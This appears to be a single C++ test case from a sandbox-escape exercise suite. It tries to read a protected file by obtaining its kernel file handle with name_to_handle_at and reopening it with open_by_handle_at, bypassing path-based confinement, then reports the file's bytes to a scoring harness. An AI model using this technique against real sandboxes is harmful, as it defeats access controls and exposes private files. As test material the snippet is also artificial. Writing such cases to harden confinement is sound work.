// attack: asks for a file's handle and opens it by that, past every path
// exercise: 01_gbf/box
// from: own
// score: 0
static bool opened() {
    struct {
        file_handle head;
        char room[128];
    } handle{};
    handle.head.handle_bytes = 128;
    int mount = 0;
    if (::syscall(SYS_name_to_handle_at, AT_FDCWD, PREY_KEY, &handle, &mount, 0) != 0) return false;
    const int folder = ::open("/", O_RDONLY | O_DIRECTORY);
    const long descriptor = ::syscall(SYS_open_by_handle_at, folder, &handle, O_RDONLY);
    return prey::won("got the handle of a private file") && (descriptor < 0 || prey::tell(prey::bytes_of(static_cast<int>(descriptor))));
}

ANSWER_IF(opened())
